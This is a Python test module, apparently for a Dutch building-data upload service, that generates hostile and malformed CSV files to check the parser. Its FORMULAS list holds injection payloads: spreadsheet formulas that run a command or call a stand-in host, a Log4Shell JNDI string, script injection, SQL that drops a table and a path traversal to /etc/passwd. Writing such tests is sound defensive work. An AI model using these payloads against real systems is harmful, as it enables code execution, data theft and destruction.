"""CSV in every encoding and shape, and the values that neither a number nor a text should be."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.cases import CSV, IDS, Upload

SENTINELS = (
    *[
        "1e308",
        "-1e308",
        "nan",
        "NaN",
        "inf",
        "-inf",
        "Infinity",
        "1e-320",
        "-99997",
        "-99999999",
        "9999",
        "99999",
        "999999999",
        "0",
        "-0",
        "-1",
        "1,5E+300",
        "0x7FFFFFFF",
        "1_000",
    ],
    *[
        "१९६२",
        "１９６２",
        "1962²",
        "½",
        "∞",
        "1962\u200b",
        "\u202e2691",
        "1962.",
        "1.9.6.2",
        "--4",
        "+-4",
        "4e",
        "e4",
        "1/0",
        "#REF!",
        "#DIV/0!",
        "#N/B",
        "=1+1",
        "TRUE",
        "null",
        "None",
    ],
    "undefined",
    "1" * 400,
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://kwaad.example";"klik")',
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://kwaad.example")',
    '=IMPORTXML(CONCAT("http://kwaad.example"))',
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "\ufeff=1+1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://kwaad.example}",
    "'; DROP TABLE workspace; --",
    "../../../../etc/passwd",
)


def tables() -> Iterator[Upload]:
    """CSV in every encoding and shape that a person or a program makes by accident."""

    def make(name: str, content: bytes, says: str = "", *, refused: bool = False) -> Upload:
        return Upload("csv", f"{name}.csv", content, refused=refused, says=says)

    text = "pand_id;naam;bouwjaar\n" + "".join(f"{i};Café Überzicht €;1962\n" for i in IDS)
    for encoding in (
        "latin-1",
        "cp1252",
        "cp437",
        "utf-8",
        "utf-8-sig",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-7",
        "cp037",
        "shift_jis",
    ):
        yield make(f"code-{encoding}", text.encode(encoding, errors="replace"))
    for name, end in {
        "cr": "\r",
        "crlf": "\r\n",
        "crcrlf": "\r\r\n",
        "lfcr": "\n\r",
        "nel": "\x85",
        "ls": "\u2028",
        "vt": "\v",
        "ff": "\f",
    }.items():
        yield make(f"regel-{name}", text.replace("\n", end).encode())
    for name, mark in {"komma": ",", "tab": "\t", "pijp": "|", "spatie": " ", "mix": ";,", "nul": "\x00", "us": "\x1f"}.items():
        yield make(f"scheiding-{name}", text.replace(";", mark).encode())
    yield make("nul", b"pand_id\n\x00\x00\n", "nul", refused=True)
    yield make("nul-midden", CSV.replace(b"1962", b"19\x0062"))
    yield make("aanhaling", b'pand_id;naam\n0518100000203346;"De Brink\n', "aanhaling", refused=True)
    yield make("aanhaling-kop", b'"pand_id;naam\n0518100000203346;De Brink\n')
    yield make("aanhaling-lang", b'pand_id;naam\n0518100000203346;"' + b"x\n" * 100_000)
    yield make("aanhaling-midden", b'pand_id;naam\n0518100000203346;De "Brink" 3" "\n')
    yield make("cel-lang", b"pand_id;naam\n0518100000203346;" + b"x" * 2_000_000)
    yield make("kop-lang", b"pand_id;" + b"k" * 2_000_000 + b"\n0518100000203346;1\n")
    yield make("kolommen", b";".join(b"k%d" % n for n in range(16_384)) + b"\n" + b";" * 16_383, "kolommen", refused=True)
    yield make("rij-breed", CSV + IDS[0].encode() + b";" * 100_000 + b"x\n")
    yield make("rijen", b"pand_id\n" + b"".join(b"05181000%08d\n" % n for n in range(1_000_000)), "rijen", refused=True)
    yield make("te-groot", b"pand_id\n" + b"0518100000203346\n" * 1_200_000, "MB", refused=True)
    yield make("leeg-rijen", b"\n" * 2_000_000, refused=True)
    yield make("puntkommas", b";" * 2_000_000, refused=True)
    yield make("lege-kop", b";;;\n0518100000203346;1962;4;x\n")
    yield make("dubbele-kop", b"pand_id;pand_id;bouwjaar;bouwjaar\n0518100000203346;0518100000203347;1962;1963\n")
    yield make("dubbel-pand", CSV + CSV.split(b"\n", 1)[1])
    yield make("kop-weg", CSV.split(b"\n", 1)[1])
    yield make("alleen-kop", b"pand_id;bouwjaar\n")
    yield make("sep-regel", b"sep=;\n" + CSV)
    yield make("bom-dubbel", b"\xef\xbb\xbf\xef\xbb\xbf" + CSV)
    yield make("half-teken", CSV[:60] + b"\xe2\x82")
    yield make("fout-utf8", CSV.replace(b"Flat", b"Fl\xc3\x28t\xff"))
    yield make("wees-utf8", CSV.replace(b"Flat", b"\xed\xa0\x80"))
    yield make("te-lang-utf8", CSV.replace(b"Flat", b"\xc0\xaf"))
    yield make("namen", b"__class__;__import__('os');pand_id;constructor\nx;y;0518100000203346;z\n")
    wrong_ids = [
        "5.99E+14",
        "5,18E+14",
        "518100000203346",
        "0518100000203346 ",
        "NL.IMBAG.Pand.0518100000203346",
        "051810000020334X",
        "0" * 16,
        "9" * 16,
        "0518100000203346,0518100000203347",
        "０５１８１０００００２０３３４６",
        "-518100000203346",
        "'0518100000203346",
        "",
    ]
    for number, wrong in enumerate(wrong_ids):
        yield make(f"id{number}", f"pand_id;bouwjaar\n{wrong};1962\n{IDS[1]};1962\n".encode())
    for number, value in enumerate(SENTINELS):
        yield make(f"getal{number}", f"pand_id;bouwjaar;bouwlagen;aantal_woningen;hoogte_m\n{IDS[0]}{f';{value}' * 4}\n".encode())
    for number, value in enumerate(FORMULAS):
        quoted = value.replace('"', '""')
        yield make(f"formule{number}", f'pand_id;naam;straat\n{IDS[0]};"{quoted}";"{quoted}"\n'.encode())
        yield make(f"formule-kop{number}", f'pand_id;"{quoted}"\n{IDS[0]};1\n'.encode())
    places = [
        "52.08;4.31",
        "4.31;52.08",
        "81000;455000",
        "455000;81000",
        "0;0",
        "1e308;1e308",
        "nan;nan",
        "52,08;4,31",
        "180;90",
        "-4.31;-52.08",
    ]
    for number, place in enumerate(places):
        for kop in ("lat;lon", "x;y"):
            yield make(f"plek{number}", f"pand_id;{kop}\n{IDS[0]};{place}\n{IDS[1]};{place}\n".encode())
